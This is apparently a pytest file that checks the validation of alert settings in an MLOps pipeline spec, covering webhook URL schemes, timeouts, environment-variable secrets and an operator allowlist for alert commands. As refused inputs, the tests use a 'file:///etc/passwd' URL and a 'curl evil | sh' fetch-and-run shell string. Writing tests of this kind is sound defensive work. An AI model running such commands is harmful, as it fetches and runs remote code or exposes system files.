"""The spec's alerts: http(s) webhooks only, secrets from the environment, and no program unless the
operator allowed it; each error names the file and the field."""

import sys
from pathlib import Path

import pytest
import yaml

from mlops_assets.errors import SpecError
from mlops_assets.naming import ALERT_EVENTS
from mlops_assets.spec import load_spec
from mlops_assets.spec.operations import ALERT_COMMANDS_ENV

REPO = Path(__file__).resolve().parents[3]


def with_alerts(pipelines: Path, alerts: list) -> Path:
    raw = yaml.safe_load((pipelines / "breast_cancer.yaml").read_text())
    path = pipelines / "alerting.yaml"
    path.write_text(yaml.safe_dump({**raw, "alerts": alerts}))
    return path


def spec_error(path: Path) -> str:
    with pytest.raises(SpecError) as error:
        load_spec(path)
    assert str(path) in str(error.value)
    return str(error.value)


def test_a_webhook_alert_defaults_to_every_event_and_five_seconds(pipelines):
    spec = load_spec(with_alerts(pipelines, [{"webhook": "https://hooks.example.com/ml"}]))
    (alert,) = spec.alerts
    assert alert.on == list(ALERT_EVENTS) and alert.timeout_s == 5
    assert load_spec(pipelines / "breast_cancer.yaml").alerts == []


@pytest.mark.parametrize("url", ["ftp://hooks.example.com/ml", "file:///etc/passwd", "http://"])
def test_a_webhook_that_is_not_http_is_refused_naming_the_field(pipelines, url):
    message = spec_error(with_alerts(pipelines, [{"webhook": "https://ok.example.com"}, {"webhook": url}]))
    assert f"alerts.1.webhook: {url!r} is not an http:// or https:// URL" in message


def test_a_timeout_over_thirty_seconds_and_an_unknown_event_are_refused(pipelines):
    message = spec_error(with_alerts(pipelines, [{"webhook": "http://x.example", "timeout_s": 60, "on": ["oops"]}]))
    assert "alerts.0.timeout_s" in message and "alerts.0.on.0" in message


def test_a_secret_is_named_by_its_environment_variable_not_written_in(pipelines):
    message = spec_error(
        with_alerts(pipelines, [{"webhook": "http://x.example", "headers_from_env": {"Authorization": "Bearer abc"}}])
    )
    assert "alerts.0.headers_from_env" in message and "environment variable name" in message


def test_an_alert_is_a_webhook_or_a_command_not_both(pipelines, monkeypatch):
    monkeypatch.setenv(ALERT_COMMANDS_ENV, "/bin/true")
    both = {"webhook": "http://x.example", "command": ["/bin/true"]}
    assert "exactly one of webhook or command" in spec_error(with_alerts(pipelines, [both, {"on": ["drift"]}]))


def test_a_command_is_refused_unless_the_operator_allowed_its_program(pipelines, monkeypatch):
    monkeypatch.delenv(ALERT_COMMANDS_ENV, raising=False)
    path = with_alerts(pipelines, [{"command": [sys.executable, "-c", "print(1)"]}])
    message = spec_error(path)
    assert "alerts.0.command" in message and ALERT_COMMANDS_ENV in message and "allowed: none" in message
    monkeypatch.setenv(ALERT_COMMANDS_ENV, f"/usr/bin/logger, {sys.executable}")
    assert load_spec(path).alerts[0].command[0] == sys.executable


def test_a_shell_string_is_not_a_program(pipelines, monkeypatch):
    monkeypatch.setenv(ALERT_COMMANDS_ENV, "/bin/sh")
    message = spec_error(with_alerts(pipelines, [{"command": ["sh -c 'curl evil | sh'"]}]))
    assert "alerts.0.command" in message and "not an allowed alert program" in message
